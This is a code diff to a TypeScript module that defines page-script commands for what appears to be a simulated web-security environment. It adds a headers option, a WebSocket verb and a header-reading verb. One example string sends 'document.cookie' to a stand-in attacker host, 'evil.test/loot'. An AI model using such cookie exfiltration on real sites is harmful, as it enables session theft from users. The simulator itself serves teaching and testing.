@@ -4,15 +4,16 @@ import { forgeryOf } from "./verbs-attacker.ts";
 /** What scripts of the page in front do. */
 export const PAGE_VERBS: readonly Verb[] = [
   verb(
-    "page fetch <method:method> <to:address> [json <json:pairs>] [bearer <bearer:kept>] [basic <basic:login>] [credentials <credentials:credentials>]",
+    "page fetch <method:method> <to:address> [json <json:pairs>] [bearer <bearer:kept>] [basic <basic:login>] [credentials <credentials:credentials>] [headers <headers:pairs>]",
     "Send a request from a script",
     "page fetch GET /profile bearer localStorage.token",
-    (world, { method, to, json, bearer, basic, credentials }) => {
-      world.page.fetch(method, resolve(world, to), {
+    (world, { method, to, json, bearer, basic, credentials, headers }) => {
+      world.requests.fetch(method, resolve(world, to), {
         ...(json && { json }),
         ...(bearer && { bearer }),
         ...(basic && { basic }),
         ...(credentials && { credentials }),
+        ...(headers && { headers }),
       });
     },
   ),
@@ -40,7 +41,16 @@ export const PAGE_VERBS: readonly Verb[] = [
     "page send <loot:loot> to <to:address>",
     "Send what a script can read to another site",
     "page send document.cookie to https://evil.test/loot",
-    (world, { loot, to }) => world.page.send(loot, resolve(world, to)),
+    (world, { loot, to }) => world.requests.send(loot, resolve(world, to)),
+  ),
+  verb("page connect <to:socket>", "Open a WebSocket from a script", "page connect /feed", (world, { to }) =>
+    world.requests.connect(asSocket(resolve(world, to))),
+  ),
+  verb(
+    "page read answer <name:field>",
+    "Read a header of the last answer from a script",
+    "page read answer Content-Type",
+    (world, { name }) => world.requests.readAnswer(name),
   ),
   verb(
     "page read <kept:kept>",
@@ -69,3 +79,6 @@ export const PAGE_VERBS: readonly Verb[] = [
     (world, { kept: { area, key } }) => world.page.removeStorage(area, key),
   ),
 ];
+
+/** The address of a socket at a page's address. */
+const asSocket = (url: string): string => url.replace(/^http/, "ws");
